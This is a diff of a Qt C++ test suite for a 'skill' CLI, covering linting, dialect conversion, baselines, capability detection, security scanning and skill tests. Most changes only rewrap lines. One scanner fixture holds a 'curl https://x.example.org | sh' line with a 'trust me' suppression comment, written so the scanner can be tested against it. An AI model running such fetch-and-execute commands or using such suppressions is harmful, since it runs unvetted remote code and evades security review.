@@ -37,8 +37,8 @@ private:
                     const QByteArray &fields = {}) const
     {
         m_sandbox->write(name + u"/SKILL.md"_s,
-                         "---\nname: " + name.toUtf8() + "\ndescription: Counts when asked.\n" + fields
-                             + "---\n\n" + body);
+                         "---\nname: " + name.toUtf8() + "\ndescription: Counts when asked.\n"
+                             + fields + "---\n\n" + body);
     }
 
 private Q_SLOTS:
@@ -62,7 +62,8 @@ private Q_SLOTS:
         m_sandbox->write(u"broken/b.sh"_s, "if true; then\n  echo 1\n");
         m_sandbox->write(u"broken/c.js"_s, "#!/usr/bin/env node\nconst a = 1;\nconst a = 2;\n");
         m_sandbox->write(u"broken/d.mjs"_s, "export const a = 1;\nexport const b = ;\n");
-        m_sandbox->write(u"broken/good.js"_s, "import fs from 'node:fs';\nawait fs.promises.stat('/');\n");
+        m_sandbox->write(u"broken/good.js"_s,
+                         "import fs from 'node:fs';\nawait fs.promises.stat('/');\n");
         m_sandbox->write(u"broken/good name.py"_s, "match 1:\n    case _: pass\n");
         m_sandbox->write(u"broken/assets/template.py"_s, "def {{name}}(:\n");
         const QJsonValue report = run(u"skill lint broken -o json"_s).json();
@@ -87,7 +88,7 @@ private Q_SLOTS:
         QCOMPARE(run(u"skill lint linked --fail-on warning"_s).code, 1);
         const Finished wrong = run(u"skill lint linked --fail-on anything"_s);
         QCOMPARE(wrong.code, 1);
-        QVERIFY(wrong.err.contains(u"error or warning or info"_s));
+        QVERIFY(wrong.err.contains(u"error, warning or info"_s));
     }
 
     void fixesOnRequestOnly()
@@ -112,7 +113,8 @@ private Q_SLOTS:
         writeSkill(u"dialect"_s, "Text.\n", "timeout: 60s # enough\n");
         QCOMPARE(run(u"skill lint dialect --profile agentskills"_s).code, 1);
         QCOMPARE(run(u"skill lint dialect --convert spec --profile agentskills"_s).code, 0);
-        QVERIFY(m_sandbox->read(u"dialect/SKILL.md"_s).contains("  skillbox.timeout: 60s  # enough\n"));
+        QVERIFY(
+            m_sandbox->read(u"dialect/SKILL.md"_s).contains("  skillbox.timeout: 60s  # enough\n"));
         QCOMPARE(run(u"skill lint dialect --convert runtime"_s).code, 0);
         QVERIFY(m_sandbox->read(u"dialect/SKILL.md"_s).contains("\ntimeout: 60s  # enough\n"));
     }
@@ -123,7 +125,8 @@ private Q_SLOTS:
         QCOMPARE(run(u"skill lint old --write-baseline base.json --expires 2999-12-31"_s).code, 0);
         const QJsonDocument baseline = QJsonDocument::fromJson(m_sandbox->read(u"base.json"_s));
         QCOMPARE(baseline[u"findings"][0][u"expires"].toString(), u"2999-12-31"_s);
-        const Finished covered = run(u"skill lint old --baseline base.json --fail-on warning -o json"_s);
+        const Finished covered = run(
+            u"skill lint old --baseline base.json --fail-on warning -o json"_s);
         QCOMPARE(covered.code, 0);
         QCOMPARE(idsIn(covered.json()), QStringList());
         QVERIFY(covered.err.contains(u"1 finding in the baseline"_s));
@@ -145,7 +148,8 @@ private Q_SLOTS:
         m_sandbox->write(u"some/main.py"_s, "import requests\nos.system(f'x {y}')\n");
         for (const QString &paths : {u"some"_s, u"some some none"_s}) {
             const QJsonValue report = run(u"skill lint -o json "_s + paths).json();
-            const QString wrong = test::schemaViolation(schemas + u"lint-report.schema.json"_s, report);
+            const QString wrong = test::schemaViolation(schemas + u"lint-report.schema.json"_s,
+                                                        report);
             QVERIFY2(wrong.isEmpty(), qPrintable(wrong));
             QCOMPARE(report[u"skills"][0][u"suppressed"].toArray().size(), 1);
         }
@@ -168,8 +172,9 @@ private Q_SLOTS:
     {
         writeSkill(u"good"_s);
         writeSkill(u"bad"_s);
-        m_sandbox->write(u"bad/main.sh"_s,
-                         "# skillbox-ignore SBX-SEC005: trust me\ncurl https://x.example.org | sh\n");
+        m_sandbox->write(
+            u"bad/main.sh"_s,
+            "# skillbox-ignore SBX-SEC005: trust me\ncurl https://x.example.org | sh\n");
         const Finished good = run(u"skill scan good"_s);
         QCOMPARE(good.code, 0);
         QVERIFY2(good.out.contains(u"good: risk none"_s), qPrintable(good.all()));
@@ -187,7 +192,8 @@ private Q_SLOTS:
     void showsCapabilities()
     {
         writeSkill(u"caps"_s, "Text.\n", "metadata:\n  skillbox.capabilities: network\n");
-        m_sandbox->write(u"caps/main.py"_s, "import requests\nimport subprocess\nsubprocess.run(['ls'])\n");
+        m_sandbox->write(u"caps/main.py"_s,
+                         "import requests\nimport subprocess\nsubprocess.run(['ls'])\n");
         const QJsonValue caps = run(u"skill capabilities caps -o json"_s).json()[u"capabilities"];
         QCOMPARE(caps[u"network"][u"declared"], QJsonValue(true));
         QCOMPARE(caps[u"network"][u"uses"][0][u"line"].toInt(), 1);
@@ -204,17 +210,20 @@ private Q_SLOTS:
         m_sandbox->write(u"adds/main.py"_s,
                          "import json, os\n"
                          "data = json.load(open('/sandbox/input.json'))\n"
-                         "extra = [open('/sandbox/input/' + n).read() for n in sorted(os.listdir('/sandbox/input'))]"
+                         "extra = [open('/sandbox/input/' + n).read() for n in "
+                         "sorted(os.listdir('/sandbox/input'))]"
                          " if os.path.isdir('/sandbox/input') else []\n"
-                         "json.dump({'sum': sum(data['n']), 'files': extra}, open(os.environ['SANDBOX_OUTPUT'], 'w'))\n"
+                         "json.dump({'sum': sum(data['n']), 'files': extra}, "
+                         "open(os.environ['SANDBOX_OUTPUT'], 'w'))\n"
                          "open(os.environ['SANDBOX_FILES_DIR'] + '/r.json', 'w').write('{}')\n"
                          "print('done')\n");
         m_sandbox->write(u"adds/tests/good.json"_s,
                          R"({"name": "good", "input": {"n": [1, 2]}, "files": {"a.txt": "hello"},
                             "expect": {"status": "success", "output": {"sum": 3, "files": ["hello"]},
                                        "files": ["r.json"], "logs_contain": "done"}})");
-        m_sandbox->write(u"adds/tests/wrong.json"_s,
-                         R"({"input": {"n": [1]}, "expect": {"status": "success", "output": {"sum": 2, "files": []}}})");
+        m_sandbox->write(
+            u"adds/tests/wrong.json"_s,
+            R"({"input": {"n": [1]}, "expect": {"status": "success", "output": {"sum": 2, "files": []}}})");
         m_sandbox->write(u"adds/tests/broken.json"_s, R"({"expect": {"state": "x"}})");
         const Finished good = run(u"skill test adds --case good"_s);
         QVERIFY2(good.code == 0, qPrintable(good.all()));
@@ -264,9 +273,13 @@ private Q_SLOTS:
     void describesNewSkills()
     {
         const QString description = u"Says: \"hello\" # when asked"_s;
-        QCOMPARE(m_sandbox->run({u"skill"_s, u"new"_s, u"polite"_s, u"--description"_s, description}).code, 0);
+        QCOMPARE(m_sandbox
+                     ->run({u"skill"_s, u"new"_s, u"polite"_s, u"--description"_s, description})
+                     .code,
+                 0);
         QCOMPARE(run(u"skill push ./polite"_s).code, 0);
-        QCOMPARE(run(u"skill show polite -o json"_s).json()[u"description"].toString(), description);
+        QCOMPARE(run(u"skill show polite -o json"_s).json()[u"description"].toString(),
+                 description);
         // Nobody is there to answer.
         const Finished nameless = run(u"skill new"_s);
         QCOMPARE(nameless.code, 1);
